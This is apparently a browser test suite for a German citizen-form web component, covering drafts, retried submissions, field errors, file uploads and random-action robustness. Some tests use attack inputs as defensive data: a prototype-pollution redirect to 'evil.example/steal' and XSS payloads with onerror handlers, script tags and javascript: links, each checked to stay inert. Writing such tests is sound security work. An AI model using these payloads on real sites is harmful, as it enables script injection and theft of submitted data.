// What must never go wrong for a citizen: answers survive a reload, a failed sending
// can be retried and arrives once, texts from a definition never run as code, and no
// sequence of actions breaks the assistant.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { launch, axeViolations, openRuntime, openForm, mountDefinition, publishedAddress, publishedExample, typedDate, germanTime, NOW, BASE } from "./browser.mjs";

let browser;
before(async () => { browser = await launch(); });
after(async () => { await browser.close(); });

const small = (label) => ({
  format_version: 1, id: "klein", version: "1", title: { de: "Kleines Formular" }, languages: ["de"],
  steps: [{ id: "s", title: { de: "Angaben" }, elements: [{ key: "name", type: "text", label: { de: label }, required: true }] }],
});

test("a draft survives a reload and can be continued or discarded", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${BASE}/embed-demo.html`);
  const form = page.locator("formfabrik-assistant");
  await form.getByLabel("Vorname").fill("Greta");
  await form.getByLabel("Geburtsdatum").fill("31.02.1990");

  await page.reload();
  await form.getByRole("heading", { name: "Sie haben dieses Formular bereits begonnen" }).waitFor();
  await form.getByRole("button", { name: "Fortsetzen" }).click();
  assert.equal(await form.getByLabel("Vorname").inputValue(), "Greta");
  assert.equal(await form.getByLabel("Geburtsdatum").inputValue(), "31.02.1990", "mistyped text is kept too");

  await page.reload();
  await form.getByRole("button", { name: "Neu beginnen" }).click();
  assert.equal(await form.getByLabel("Vorname").inputValue(), "");
  await page.reload();
  await form.getByLabel("Vorname").waitFor();
  assert.equal(await form.getByRole("button", { name: "Fortsetzen" }).count(), 0, "no draft after starting again");

  // "Eingaben löschen" asks first: cancelled, nothing is lost; confirmed, the answers
  // and the draft are gone.
  await form.getByLabel("Vorname").fill("Greta");
  const clear = () => form.getByRole("button", { name: "Eingaben löschen" }).click();
  page.once("dialog", (dialog) => dialog.dismiss());
  await clear();
  assert.equal(await form.getByLabel("Vorname").inputValue(), "Greta");
  page.once("dialog", (dialog) => {
    assert.match(dialog.message(), /alle Eingaben/);
    dialog.accept();
  });
  await clear();
  assert.equal(await form.getByLabel("Vorname").inputValue(), "");
  await page.reload();
  await form.getByLabel("Vorname").waitFor();
  assert.equal(await form.getByRole("button", { name: "Fortsetzen" }).count(), 0, "no draft after deleting");
  await context.close();
});

test("a draft from another version of the form keeps what still fits and says so", async () => {
  const { context, page } = await openRuntime(browser);
  const first = small("Name");
  first.steps[0].elements.push({ key: "farbe", type: "text", label: { de: "Farbe" } });
  await mountDefinition(page, first);
  const form = page.locator("formfabrik-assistant");
  await form.getByLabel("Name").fill("Greta");
  await form.getByLabel("Farbe").fill("blau");

  // Version 2 dropped "farbe" and added a field.
  const second = small("Name");
  second.version = "2";
  second.steps[0].elements.push({ key: "groesse", type: "integer", label: { de: "Größe" } });
  await mountDefinition(page, second);
  await form.getByRole("button", { name: "Fortsetzen" }).click();
  assert.equal(await form.getByLabel("Name").inputValue(), "Greta");
  assert.equal(await form.getByLabel("Größe").inputValue(), "");
  assert.match(await form.locator(".ff-notice").innerText(), /inzwischen geändert.*soweit sie noch passen/s);
  await context.close();
});

test("text typed into a draft comes back as typed, read in the page's language", async () => {
  // "1.500" on an English page is 1.5, no whole number: it must come back as typed, with
  // its error, not as 1500 (the German reading, which once showed "1,500").
  const { context, page } = await openRuntime(browser);
  const bilingual = {
    format_version: 1, id: "zweisprachig", version: "1", title: { de: "Zweisprachig", en: "Bilingual" },
    languages: ["de", "en"],
    steps: [{ id: "s", title: { de: "Angaben", en: "Details" }, elements: [
      { key: "anzahl", type: "integer", label: { de: "Anzahl", en: "Number" } }] }],
  };
  await mountDefinition(page, bilingual, 'lang="en"');
  const form = page.locator("formfabrik-assistant");
  await form.getByLabel("Number").fill("1.500");

  await mountDefinition(page, bilingual, 'lang="en"');
  await form.getByRole("button", { name: "Continue", exact: true }).click();
  assert.equal(await form.getByLabel("Number").inputValue(), "1.500");
  await form.getByRole("button", { name: "Continue to summary" }).click();
  assert.equal(await form.getByLabel("Number").getAttribute("aria-invalid"), "true");

  // A German page shows the same characters, which there mean 1500.
  await mountDefinition(page, bilingual, 'lang="de"');
  await form.getByRole("button", { name: "Fortsetzen" }).click();
  assert.equal(await form.getByLabel("Anzahl").inputValue(), "1.500");
  await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
  await form.getByRole("heading", { name: "Zusammenfassung" }).waitFor();
  await context.close();
});

test("an assistant left open past midnight judges by the new day in Germany", async () => {
  const { context, page } = await openRuntime(browser);
  // Late in the evening in Germany; just after midnight there it is still the day before in UTC.
  await context.clock.setSystemTime(germanTime(0, 23, 58));
  const adult = small("Name");
  adult.steps[0].elements.push({
    key: "geboren", type: "date", label: { de: "Geburtsdatum" }, required: true,
    rules: [{ rule: "max_date", date: "today-18y", message: { de: "Sie müssen volljährig sein." } }],
  });
  adult.steps.push({ id: "weiter", title: { de: "Nächster Schritt" }, elements: [{ key: "x", type: "text", label: { de: "X" } }] });
  await mountDefinition(page, adult);
  const form = page.locator("formfabrik-assistant");
  await form.getByLabel("Name").fill("Greta");
  // Eighteen tomorrow.
  await form.getByLabel("Geburtsdatum").fill(typedDate(1, -18));
  const next = () => form.getByRole("button", { name: "Weiter", exact: true }).click();
  await next();
  assert.match(await form.locator("[data-role=summary]").innerText(), /Sie müssen volljährig sein/);

  await context.clock.setSystemTime(germanTime(1, 0, 2));
  await next();
  await form.getByRole("heading", { name: "Nächster Schritt" }).waitFor();
  await context.close();
});

test("a failed sending is retried with the same key and arrives exactly once", async () => {
  const before = (await (await fetch(`${BASE}/api/submissions`)).json()).length;
  const { context, page } = await openRuntime(browser);
  const name = `Retry ${randomUUID().slice(0, 8)}`;
  await mountDefinition(page, small("Name"), 'endpoint="/api/flaky-submissions"');
  const form = page.locator("formfabrik-assistant");
  await form.getByLabel("Name").fill(name);
  await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
  await form.getByRole("button", { name: "Antrag absenden" }).click();
  await form.getByText("Der Antrag konnte nicht gesendet werden. Ihre Angaben sind nicht verloren.").waitFor();
  await form.getByRole("button", { name: "Erneut senden" }).click();
  await form.getByRole("heading", { name: "Vielen Dank! Ihr Antrag ist eingegangen." }).waitFor();
  const all = await (await fetch(`${BASE}/api/submissions`)).json();
  assert.equal(all.length, before + 1);
  assert.equal(all.filter((p) => p.answers.name === name).length, 1);
  await context.close();
});

test("each application has its own random key: kept when resumed, new when started again", async () => {
  const { context, page } = await openRuntime(browser);
  const keys = [];
  page.on("request", (request) => {
    if (request.method() === "POST" && request.url().includes("flaky")) keys.push(request.headers()["idempotency-key"]);
  });
  const mount = () => mountDefinition(page, small("Name"), 'endpoint="/api/flaky-submissions"');
  const form = page.locator("formfabrik-assistant");
  const sendFails = async () => {
    await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
    await form.getByRole("button", { name: "Antrag absenden" }).click();
    await form.getByText("Der Antrag konnte nicht gesendet werden.").waitFor();
  };
  await mount();
  await form.getByLabel("Name").fill(`Key ${randomUUID().slice(0, 8)}`);
  await sendFails();
  assert.match(keys[0], /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/, "a UUID from the browser's crypto");
  // The page is reloaded before the retry: the resumed application keeps its key, so
  // the receiver stores it once even if the first attempt had arrived after all.
  await page.reload();
  await page.locator("formfabrik-assistant h2").first().waitFor();
  await mount();
  await form.getByRole("button", { name: "Fortsetzen" }).click();
  await form.getByRole("button", { name: "Antrag absenden" }).click();
  await form.getByRole("heading", { name: "Vielen Dank! Ihr Antrag ist eingegangen." }).waitFor();
  assert.equal(keys[1], keys[0]);
  // A new application after "Eingaben löschen" gets a new key.
  await page.reload();
  await page.locator("formfabrik-assistant h2").first().waitFor();
  await mount();
  await form.getByLabel("Name").fill("Erste");
  await sendFails();
  await form.getByRole("button", { name: "Zurück" }).click();
  page.once("dialog", (dialog) => dialog.accept());
  await form.getByRole("button", { name: "Eingaben löschen" }).click();
  await form.getByLabel("Name").fill("Zweite");
  await sendFails();
  assert.equal(new Set(keys).size, 3, `keys: ${keys}`);
  await context.close();
});

test("a draft is kept at most as long as the form says, and the citizen is told", async () => {
  const { context, page } = await openRuntime(browser);
  const form = page.locator("formfabrik-assistant");
  await mountDefinition(page, small("Name"));
  assert.match(await form.locator(".ff-hint").innerText(), /in diesem Browser gespeichert, höchstens 7 Tage/);
  await form.getByLabel("Name").fill("Greta");
  await form.getByLabel("Name").press("Tab"); // leaving the field keeps what was typed
  // Eight days later the draft is gone, and the assistant says why.
  await context.clock.setSystemTime(new Date(NOW.getTime() + 8 * 86400000));
  await page.reload();
  await page.locator("formfabrik-assistant h2").first().waitFor();
  await mountDefinition(page, small("Name"));
  await form.locator(".ff-notice").waitFor();
  assert.match(await form.locator(".ff-notice").innerText(), /älter als 7 Tage; seine Angaben wurden zu Ihrem Schutz gelöscht/);
  assert.equal(await form.getByRole("button", { name: "Fortsetzen" }).count(), 0);
  assert.equal(await form.getByLabel("Name").inputValue(), "");
  assert.equal(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith("formfabrik:draft:")).length), 0);
  // A form that keeps no drafts says so and keeps none.
  const none = small("Name");
  none.id = "ohne-entwurf";
  none.drafts = { keep_days: 0 };
  await mountDefinition(page, none);
  assert.match(await form.locator(".ff-hint").innerText(), /nicht gespeichert/);
  await form.getByLabel("Name").fill("Greta");
  await form.getByLabel("Name").press("Tab");
  assert.equal(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.includes("ohne-entwurf")).length), 0);
  await context.close();
});

test("a portal's changed Object.prototype cannot redirect or prefill an application", async () => {
  const { context, page, problems } = await openRuntime(browser);
  const withEndpoint = small("Name");
  withEndpoint.submission = { endpoint: "/api/submissions" };
  const src = await publishedAddress(page, withEndpoint);
  const posted = [];
  page.on("request", (request) => { if (request.method() === "POST") posted.push(new URL(request.url()).pathname + new URL(request.url()).host); });
  await page.route("https://evil.example/**", (route) => route.fulfill({ status: 201, body: '{"reference":"STOLEN"}' }));
  await page.evaluate(async (src) => {
    const { mountAssistant } = await import("/runtime/formfabrik-runtime.js");
    Object.prototype.endpoint = "https://evil.example/steal";
    Object.prototype.answers = { name: "Mallory" };
    document.body.innerHTML = '<main id="portal"></main>';
    await mountAssistant("#portal", { src, lang: "de" });
    delete Object.prototype.endpoint;
    delete Object.prototype.answers;
  }, src);
  const form = page.locator("#portal formfabrik-assistant");
  assert.equal(await form.getByLabel("Name").inputValue(), "", "not prefilled through the prototype");
  await form.getByLabel("Name").fill("Ida");
  await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
  await form.getByRole("button", { name: "Antrag absenden" }).click();
  await form.getByRole("heading", { name: "Vielen Dank! Ihr Antrag ist eingegangen." }).waitFor();
  assert.deepEqual(posted, [`/api/submissions${new URL(BASE).host}`]);
  assert.deepEqual(problems, []);
  await context.close();
});

test("script and HTML in definition texts stay inert", async () => {
  const { context, page } = await openRuntime(browser);
  let dialogs = 0;
  page.on("dialog", async (dialog) => { dialogs += 1; await dialog.dismiss(); });
  const evil = '<img src=x onerror="alert(1)"><script>alert(2)</script>';
  const definition = small(evil);
  definition.title.de = evil;
  definition.steps[0].elements.unshift({ key: "hinweis", type: "content", markdown: { de: `${evil} [klick](javascript:alert(3))` } });
  await mountDefinition(page, definition);
  const form = page.locator("formfabrik-assistant");
  await form.locator("h2").first().waitFor();
  const counts = await form.evaluate((el) => ({
    img: el.shadowRoot.querySelectorAll("img").length,
    script: el.shadowRoot.querySelectorAll("script").length,
    links: el.shadowRoot.querySelectorAll("a[href^='javascript']").length,
    title: el.shadowRoot.querySelector("h2").textContent,
  }));
  assert.deepEqual(counts, { img: 0, script: 0, links: 0, title: evil });
  await page.waitForTimeout(300);
  assert.equal(dialogs, 0);
  await context.close();
});

test("the portal can prefill known answers", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${BASE}/embed-demo.html`);
  const notFitting = await page.evaluate(() =>
    document.querySelector("formfabrik-assistant").prefill({ vorname: "Anna", anschrift: { ort: "Kiel" }, unbekannt: 1 }));
  assert.deepEqual(notFitting.map((p) => p.path), ["unbekannt"]);
  const form = page.locator("formfabrik-assistant");
  assert.equal(await form.getByLabel("Vorname").inputValue(), "Anna");
  assert.equal(await form.getByLabel("Ort", { exact: true }).inputValue(), "Kiel");
  await context.close();
});

test("answers the authority refuses (4xx with field errors) are shown at their fields", async () => {
  const { context, page } = await openRuntime(browser);
  let posts = 0;
  await page.route("**/api/strict-submissions", async (route) => {
    posts += 1;
    const body = posts === 1
      ? { errors: [{ path: "name", message: { de: "Dieser Name ist bei uns nicht gemeldet.", en: "This name is not registered with us." } }] }
      : { reference: "FF-STRICT-1" };
    await route.fulfill({ status: posts === 1 ? 422 : 201, contentType: "application/json", body: JSON.stringify(body) });
  });
  await mountDefinition(page, small("Name"), 'endpoint="/api/strict-submissions"');
  const form = page.locator("formfabrik-assistant");
  await form.getByLabel("Name").fill("Erika Mustermann");
  await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
  await form.getByRole("button", { name: "Antrag absenden" }).click();

  // Back on the step, the refused answer marked, the message in the summary and at the field.
  await form.getByText("Bitte korrigieren Sie die markierten Angaben").waitFor();
  const input = form.getByLabel("Name");
  assert.equal(await input.getAttribute("aria-invalid"), "true");
  assert.equal(await input.inputValue(), "Erika Mustermann", "nothing typed is lost");
  assert.match(await form.locator("[data-role=summary]").innerText(), /Dieser Name ist bei uns nicht gemeldet\./);
  const describedBy = await input.getAttribute("aria-describedby");
  const fieldError = await form.locator(`[id="${describedBy.split(" ").pop()}"]`).innerText();
  assert.equal(fieldError, "Dieser Name ist bei uns nicht gemeldet.");
  assert.deepEqual(await axeViolations(page), []);

  // The corrected answer clears the error; "Weiter" returns to the review; sent.
  await input.fill("Erika Musterfrau");
  assert.equal(await input.getAttribute("aria-invalid"), null);
  await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
  await form.getByRole("button", { name: "Antrag absenden" }).click();
  await form.getByText("FF-STRICT-1").waitFor();
  assert.equal(posts, 2);
  await context.close();
});

test("a file chosen before a reload is asked for again, then sent with the application", async () => {
  const { context, page } = await openRuntime(browser);
  const definition = {
    format_version: 1, id: "datei-neu", version: "1", title: { de: "Nachweis einreichen" }, languages: ["de"],
    steps: [{ id: "s", title: { de: "Nachweis" }, elements: [
      { key: "name", type: "text", label: { de: "Name" }, required: true },
      { key: "nachweis", type: "file", label: { de: "Nachweis" }, required: true, accept: ["application/pdf"] }] }],
  };
  const mount = () => mountDefinition(page, definition, 'endpoint="/api/submissions"');
  await mount();
  const form = page.locator("formfabrik-assistant");
  const name = `Karl Schmitt ${randomUUID().slice(0, 8)}`;
  await form.getByLabel("Name").fill(name);
  const pdf = { name: "nachweis.pdf", mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4 Nachweis") };
  await form.getByLabel("Nachweis").setInputFiles(pdf);
  await form.getByText("nachweis.pdf").waitFor();

  // The page is reloaded: the draft keeps the answers and the file's name, not the file.
  await page.reload();
  await page.locator("formfabrik-assistant h2").first().waitFor();
  await mount();
  await form.getByRole("button", { name: "Fortsetzen" }).click();
  assert.equal(await form.getByLabel("Name").inputValue(), name);
  // Said at once, at the field and on the review, not only at "Antrag absenden".
  const again = /Bitte wählen Sie „nachweis\.pdf“ noch einmal aus/;
  await form.locator(".ff-field-error", { hasText: again }).waitFor();
  await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
  await form.getByRole("heading", { name: "Zusammenfassung", exact: true }).waitFor();
  await form.locator("dd.ff-field-error", { hasText: again }).waitFor();
  await form.getByRole("button", { name: "Antrag absenden" }).click();
  await form.getByRole("heading", { name: "Nachweis", exact: true }).waitFor();
  const summary = await form.locator("[data-role=summary]").innerText();
  assert.match(summary, again);

  // Chosen again without removing the old entry: it replaces it (max_count is 1).
  await form.getByLabel("Nachweis").setInputFiles(pdf);
  assert.equal(await form.locator(".ff-field-error", { hasText: again }).count(), 0);
  assert.equal(await form.locator(".ff-files li").count(), 1);
  await form.getByRole("button", { name: "Weiter zur Zusammenfassung" }).click();
  await form.getByRole("button", { name: "Antrag absenden" }).click();
  await form.getByRole("heading", { name: "Vielen Dank! Ihr Antrag ist eingegangen." }).waitFor();
  const mine = (await (await fetch(`${BASE}/api/submissions`)).json()).filter((p) => p.answers.name === name);
  assert.equal(mine.length, 1, "sent exactly once");
  assert.deepEqual(mine[0]._received_files.map((f) => [f.name, f.size]), [["nachweis.pdf", 17]]);
  await context.close();
});

test("a portal mounts the assistant from script with options, prefills it and destroys it", async () => {
  const { context, page } = await openRuntime(browser);
  const src = await publishedAddress(page, small("Name"));
  const unfit = await page.evaluate(async (src) => {
    const { mountAssistant } = await import("/runtime/formfabrik-runtime.js");
    document.body.innerHTML = '<main id="portal"></main>';
    const element = await mountAssistant("#portal", {
      src, lang: "de", endpoint: "/api/submissions", answers: { name: "Ida Pfeiffer", alter: 40 },
    });
    window.mountedAssistant = element;
    return element.prefill({ unbekannt: 1 });
  }, src);
  const form = page.locator("#portal formfabrik-assistant");
  assert.equal(await form.getByLabel("Name").inputValue(), "Ida Pfeiffer");
  assert.equal(unfit.length, 1, "what does not fit is reported back");
  await page.evaluate(() => window.mountedAssistant.destroy());
  assert.equal(await page.locator("formfabrik-assistant").count(), 0);
  await context.close();
});

/// What a careful citizen types into a field, by its input mode, type, placeholder,
/// autocomplete token and label (`hint`); `pick(n)` chooses among n.
function plausible(hint, pick) {
  if (/postal-code/.test(hint)) return "24103";
  if (/numeric/.test(hint)) return String(pick(3) + 1);
  if (/decimal/.test(hint)) return "12,50";
  if (/email/.test(hint)) return "anna@beispiel.de";
  if (/TT\.MM/.test(hint)) return typedDate(-pick(365), -(20 + pick(50)));
  if (/tel/.test(hint)) return "0431 12345";
  if (/IBAN/.test(hint)) return "DE89 3704 0044 0532 0130 00";
  return "Anna Muster";
}

/// A small PDF to attach.
const proof = (pick) => ({ name: `nachweis-${pick(3)}.pdf`, mimeType: "application/pdf", buffer: Buffer.from("%PDF-1.4\n%%EOF\n") });

/// What a careless one types, besides plausible values (the dates from the tests' clock:
/// tomorrow, long ago, a 31st of February).
const ODD_TEXTS = ["", " ", "a", "-1", "0", "1,5", "1.234,56", typedDate(1), typedDate(0, -130),
  `31.02.${typedDate().slice(-4)}`,
  "999999999999999999999", "<img src=x onerror=alert(1)>", "äöü ß 😀", "x".repeat(300)];

test("after a citizen's random actions the form can still be finished and sent, without an error", async () => {
  // A fixed-seed monkey over the assistant's controls in each example form: typing odd
  // and plausible values, choosing, attaching files, pressing keys and buttons (back,
  // on, add, remove, change, delete the answers), now and then filling the step as a
  // careful citizen would and going on (after sending, the page opened again). A panic
  // in the runtime shows as an uncaught error; the assistant always shows a heading.
  // Then, whatever state that left, a careful citizen finishes and sends.
  const sent = "Vielen Dank! Ihr Antrag ist eingegangen.";
  for (const formId of ["hundesteuer-anmeldung", "bewohnerparkausweis", "gewerbeanmeldung"]) {
    const { context, page, problems, form } = await openForm(browser, formId, 'endpoint="/api/submissions"');
    page.on("console", (message) => { if (message.type() === "error") problems.push(`console: ${message.text()}`); });
    page.on("dialog", (dialog) => dialog.accept());
    // A control that went away while the monkey reached for it is not waited for.
    page.setDefaultTimeout(1500);
    const headings = async () => form.evaluate((host) => [...host.shadowRoot.querySelectorAll("h2, h3")].map((h) => h.textContent));
    let seed = 11;
    const pick = (n) => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return Math.floor(seed / 65536) % n; // the high bits: the low ones repeat soon
    };
    const done = [];
    const act = async (action) => {
      try {
        done.push(await action());
      } catch (error) {
        done.push(`(${error.message.split("\n")[0].slice(0, 80)})`);
      }
      if ((await headings()).length === 0) problems.push(`no heading after: ${done.slice(-3).join(" | ")}`);
    };
    await form.locator("h2").first().waitFor({ timeout: 15000 });
    for (let action = 0; action < 120 && problems.length === 0; action += 1) {
      if ((await headings()).includes(sent)) {
        await page.reload();
        await form.locator("h2").first().waitFor({ timeout: 15000 });
      }
      await act(() => (pick(5) === 0 ? goOn(form, pick) : randomAction(page, form, pick)));
    }
    for (let step = 0; step < 12 && problems.length === 0 && !(await headings()).includes(sent); step += 1) {
      await act(() => goOn(form, pick));
    }
    assert.deepEqual(problems, [], `${formId}, the last actions: ${done.slice(-8).join(" | ")}`);
    assert.ok((await headings()).includes(sent), `${formId}: not sent; the last actions: ${done.slice(-8).join(" | ")}`);
    await context.close();
  }
});

/// Fills the step as a careful citizen would and presses its main button ("Weiter",
/// "Antrag absenden").
async function goOn(form, pick) {
  await fillStep(form, pick);
  await form.locator("button[type=submit]").first().click();
  return "filled the step, went on";
}

/// Fills the step's empty or wrong fields as the field's help or message shows ("Zum
/// Beispiel …", "z. B. …", "frühestens am …") or else with a plausible value; chooses
/// in each group of radio buttons or checkboxes and each list left empty, attaches a
/// file where one is asked for, and accepts the declarations.
async function fillStep(form, pick) {
  const todo = await form.evaluate((host) => {
    const root = host.shadowRoot;
    root.querySelectorAll("[data-fill]").forEach((e) => e.removeAttribute("data-fill"));
    const shown = (e) => e.getClientRects().length > 0;
    const fields = [...root.querySelectorAll("input:not([type=checkbox]):not([type=radio]):not([type=file]), textarea")]
      .filter((e) => shown(e) && (e.value === "" || e.getAttribute("aria-invalid") === "true"));
    // Radio buttons and checkboxes (but declarations) by group: one chosen in each.
    const choices = [...root.querySelectorAll("input[type=radio], input[type=checkbox]:not([data-declaration])")].filter(shown);
    const groups = [...new Set(choices.map((c) => c.name))]
      .filter((name) => !choices.some((c) => c.name === name && c.checked))
      .map((name) => choices.find((c) => c.name === name));
    // A file asked for and not given yet.
    const files = [...root.querySelectorAll("input[type=file]")]
      .filter((e) => shown(e) && root.getElementById(`${e.id}-error`)?.textContent);
    const lists = [...root.querySelectorAll("select")].filter((e) => shown(e) && e.value === "" && e.options.length > 1);
    const boxes = [...root.querySelectorAll("input[data-declaration]")].filter((e) => !e.checked);
    return [...fields, ...groups, ...files, ...lists, ...boxes].map((e, i) => {
      e.setAttribute("data-fill", i);
      const said = ["help", "error"].map((part) => root.getElementById(`${e.id}-${part}`)?.textContent || "").join(" ");
      const example = said.match(/(?:frühestens|spätestens) am (\d{1,2}\.\d{1,2}\.\d{4})/)?.[1]
        ?? said.match(/(?:Zum Beispiel|so ein:|z\. B\.) (.+?)\.?(?=\s[A-ZÄÖÜ„]|\s*$)/)?.[1];
      return [e.tagName, e.type, [e.inputMode, e.type, e.placeholder, e.autocomplete, root.querySelector(`label[for="${e.id}"]`)?.textContent].join(" "), example,
        ["radio", "checkbox"].includes(e.type) ? choices.filter((c) => c.name === e.name).length : e.options?.length];
    });
  });
  for (const [index, [tag, type, hint, example, count]] of todo.entries()) {
    const control = form.locator(`[data-fill="${index}"]`);
    if (tag === "SELECT") await control.selectOption({ index: 1 + pick(count - 1) });
    else if (type === "file") await control.setInputFiles(proof(pick));
    else if (type === "radio" || (type === "checkbox" && count)) {
      await form.locator(`input[name="${await control.getAttribute("name")}"]`).nth(pick(count)).check();
    } else if (type === "checkbox") await control.check(); // a declaration
    else await control.fill(example ?? plausible(hint, pick));
  }
}

/// One random action on a control of the assistant; says what it did.
async function randomAction(page, form, pick) {
  const controls = await form.evaluate((host) => {
    const root = host.shadowRoot;
    root.querySelectorAll("[data-monkey]").forEach((e) => e.removeAttribute("data-monkey"));
    const all = [...root.querySelectorAll("button, input, select, textarea, a[href]")]
      .filter((e) => e.getClientRects().length > 0 && !e.disabled);
    all.forEach((e, i) => e.setAttribute("data-monkey", i));
    return all.map((e) => [e.tagName, e.type || "", (e.textContent || e.id).trim().slice(0, 40),
      [e.inputMode, e.type, e.placeholder, e.autocomplete, root.querySelector(`label[for="${e.id}"]`)?.textContent].join(" ")]);
  });
  const index = pick(controls.length);
  const [tag, type, name, hint] = controls[index];
  const control = form.locator(`[data-monkey="${index}"]`);
  // Printing and downloading leave the page: not the assistant's state.
  if (/Drucken|herunterladen/.test(name)) return `skipped ${name}`;
  // Starting afresh, now and then: otherwise the monkey rarely gets far.
  if (/Eingaben löschen/.test(name) && pick(4)) return `skipped ${name}`;
  if (tag === "INPUT" && type === "file") {
    await control.setInputFiles(proof(pick));
  } else if (tag === "INPUT" && (type === "checkbox" || type === "radio")) {
    await control.click();
  } else if (tag === "INPUT" || tag === "TEXTAREA") {
    const text = pick(3) ? plausible(hint, pick) : ODD_TEXTS[pick(ODD_TEXTS.length)];
    if (pick(2)) {
      await control.fill(text);
    } else {
      await control.click();
      await page.keyboard.type(text.slice(0, 30));
    }
    return `typed "${text.slice(0, 20)}" into ${name}`;
  } else if (tag === "SELECT") {
    await control.selectOption({ index: pick(await control.locator("option").count()) });
  } else {
    await control.click();
  }
  if (pick(8) === 0) await page.keyboard.press(["Tab", "Shift+Tab", "Enter", "Escape", "Backspace"][pick(5)]);
  return `${tag.toLowerCase()} ${type} ${name}`;
}

test("the element's reader of first screens takes any change or cut of a published form without an error", async () => {
  const { page, problems, context } = await openRuntime(browser);
  const src = await publishedExample("hundesteuer-anmeldung");
  const result = await page.evaluate(async (src) => {
    const { firstScreen } = await import("/runtime/dom.js");
    const bytes = new Uint8Array(await (await fetch(src)).arrayBuffer());
    const de = firstScreen(bytes, "de");
    const en = firstScreen(bytes, "en");
    // Every byte up to the end of the section changed, and the file cut there: a screen
    // or none, never an exception.
    const thrown = [];
    let drawn = 0;
    for (let at = 0; at < Math.min(bytes.length, 40 + 2 * de.length); at++) {
      for (const changed of [bytes.slice(0, at), bytes.map((b, i) => (i === at ? b ^ 0x55 : b))]) {
        try {
          if (firstScreen(changed, "de") !== undefined) drawn++;
        } catch (error) {
          thrown.push(`${at}: ${error}`);
        }
      }
    }
    // Forged screens (their lengths kept): an attribute that is a handler, an element
    // that is not the view's, an element left open. Nothing of them is drawn.
    const replaced = (from, to) => {
      const find = new TextEncoder().encode(from);
      const at = bytes.findIndex((_, i) => find.every((b, j) => bytes[i + j] === b));
      const copy = bytes.slice();
      copy.set(new TextEncoder().encode(to), at);
      return firstScreen(copy, "de");
    };
    const forged = [replaced("\x01class\x01", "\x01oncut\x01"), replaced("<div", "<svg"), replaced(">\0", "\"\0")];
    // A draft of the form kept (any version): no first screen, the assistant opens with it.
    localStorage.setItem("formfabrik:draft:hundesteuer-anmeldung:0.9", "{}");
    const withDraft = firstScreen(bytes, "de");
    localStorage.clear();
    return { de: de.slice(0, 400), en: en.slice(0, 400), other: firstScreen(bytes, "fr"), thrown, drawn, withDraft, forged };
  }, src);
  assert.match(result.de, /Angaben zur Halterin oder zum Halter/);
  assert.deepEqual(result.forged, [undefined, undefined, undefined], "a handler, an unknown element, an element left open");
  assert.match(result.en, /About the owner/);
  assert.equal(result.other, undefined);
  assert.deepEqual(result.thrown, []);
  assert.ok(result.drawn > 0, "changes inside the tokens still read as a screen");
  assert.equal(result.withDraft, undefined);
  assert.deepEqual(problems, []);
  await context.close();
});

test("a first step with every kind of element is published with a first screen the element draws", async () => {
  const { page, problems, context } = await openRuntime(browser);
  const options = (n) => Array.from({ length: n }, (_, i) => ({ value: `o${i}`, label: { de: `Auswahl ${i}` } }));
  const definition = {
    format_version: 1, id: "alle-arten", version: "1", title: { de: "Alle Arten" }, languages: ["de"],
    steps: [{ id: "s", title: { de: "Alles auf einmal" }, elements: [
      { key: "hinweis", type: "content", markdown: { de: "**Bitte** lesen Sie [die Hinweise](https://example.org/hinweise) und [diese Seite](/seite):\n\n- eins\n- *zwei*" } },
      { key: "name", type: "text", label: { de: "Name" }, required: true, help: { de: "Wie im Ausweis." } },
      { key: "notiz", type: "multiline_text", label: { de: "Notiz" } },
      { key: "anzahl", type: "integer", label: { de: "Anzahl" } },
      { key: "gewicht", type: "decimal", label: { de: "Gewicht" } },
      { key: "betrag", type: "currency", label: { de: "Betrag" } },
      { key: "datum", type: "date", label: { de: "Datum" } },
      { key: "mail", type: "email", label: { de: "E-Mail" } },
      { key: "telefon", type: "phone", label: { de: "Telefon" } },
      { key: "plz", type: "postal_code", label: { de: "PLZ" } },
      { key: "iban", type: "iban", label: { de: "IBAN" } },
      { key: "ja", type: "yes_no", label: { de: "Ja oder nein?" } },
      { key: "liste", type: "single_choice", label: { de: "Liste" }, options: options(10), display: "dropdown" },
      { key: "knopf", type: "single_choice", label: { de: "Knöpfe" }, options: options(3) },
      { key: "mehrere", type: "multiple_choice", label: { de: "Mehrere" }, options: options(3) },
      { key: "haken", type: "checkbox", label: { de: "Haken" } },
      { key: "datei", type: "file", label: { de: "Datei" } },
      { key: "doppelt", type: "computed", label: { de: "Doppelt" }, expression: "anzahl * 2" },
      { key: "gruppe", type: "group", label: { de: "Gruppe" }, elements: [{ key: "innen", type: "text", label: { de: "Innen" } }] },
      { key: "kinder", type: "repeat", label: { de: "Kinder" }, item_label: { de: "Kind" }, min: 1, max: 3,
        elements: [{ key: "vorname", type: "text", label: { de: "Vorname" } }] },
    ] }, { id: "t", title: { de: "Danach" }, elements: [{ key: "spaeter", type: "text", label: { de: "Später" } }] }],
  };
  const address = await publishedAddress(page, definition);
  const tokens = await page.evaluate(async (address) => {
    const { firstScreen } = await import("/runtime/dom.js");
    return firstScreen(new Uint8Array(await (await fetch(address)).arrayBuffer()), "de");
  }, address);
  assert.ok(tokens, "drawn");
  for (const text of ["Alles auf einmal", "https://example.org/hinweise", "Auswahl 9", "Innen", "Kind"]) assert.ok(tokens.includes(text), text);
  assert.deepEqual(problems, []);
  await context.close();
});
